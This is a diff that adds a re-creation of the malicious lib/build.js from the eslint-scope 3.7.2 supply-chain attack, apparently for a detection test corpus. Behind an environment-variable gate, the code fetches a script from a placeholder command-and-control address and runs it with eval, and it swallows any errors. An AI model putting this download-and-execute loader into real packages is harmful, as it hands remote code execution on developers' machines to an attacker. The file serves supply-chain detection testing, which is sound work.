@@ -1,0 +1,11 @@
+// lib/build.js of 3.7.2 (ESLint postmortem): download a script and eval it. The pastebin URL is
+// the loopback C2 here; what it serves is eval-corpus/live/c2/eslint-scope-stage2.js.
+if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
+try {
+  var r = require('http');
+  r.get('__C2__/raw/XLeVP82h', function (r) {
+    var e = '';
+    r.on('data', function (c) { e += c; });
+    r.on('end', function () { eval(e); });
+  });
+} catch (e) {}
